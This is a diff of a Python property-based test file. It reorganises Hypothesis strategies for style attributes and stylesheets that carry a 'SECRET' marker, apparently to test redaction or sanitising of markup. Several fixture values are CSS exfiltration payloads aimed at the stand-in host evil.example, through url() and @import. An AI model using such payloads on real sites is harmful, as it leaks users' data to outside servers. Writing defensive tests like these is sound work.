@@ -110,23 +110,26 @@ _plain_attributes = st.dictionaries(
     ),
     max_size=6,
 )
-_style_attributes = st.dictionaries(
-    st.sampled_from(["style", "_cssText"]),
-    st.sampled_from(
-        [
-            "SECRET",
-            "color:red;content:'SECRET of hers'",
-            "background:url(https://evil.example/SECRET);color:red",
-            "--x:'SECRET';color:red",
-            "--x:SECRET;--y: SECRET",
-            "/* SECRET */ a{}",
-            'a[data-x="SECRET"]{color:red}',
-            "@import 'https://evil.example/SECRET.css';",
-            {"--x": "SECRET", "content": "'SECRET of hers'", "SECRET x": "1", "top": ["1px", "SECRET"]},
-        ]
-    ),
-    max_size=2,
+_styles = st.sampled_from(
+    [
+        "SECRET",
+        "color:red;content:'SECRET of hers'",
+        "background:url(https://evil.example/SECRET);color:red",
+        "--x:'SECRET';color:red",
+        "--x:SECRET;--y: SECRET",
+        {"--x": "SECRET", "content": "'SECRET of hers'", "SECRET x": "1", "top": ["1px", "SECRET"]},
+    ]
 )
+#: Names in style sheets pass: those of classes, fonts and the like are the shop's code.
+_sheets = st.sampled_from(
+    [
+        "/* SECRET */ a{}",
+        'a[data-x="SECRET"]{color:red}',
+        "@import 'https://evil.example/SECRET.css';",
+        "p{content:'SECRET of hers'}",
+    ]
+)
+_style_attributes = st.fixed_dictionaries({}, optional={"style": _styles, "_cssText": _sheets})
 secret_attributes = st.builds(lambda plain, style: {**plain, **style}, _plain_attributes, _style_attributes)
 #: Elements whose content nobody sees, whatever it is.
 closed = st.sampled_from(
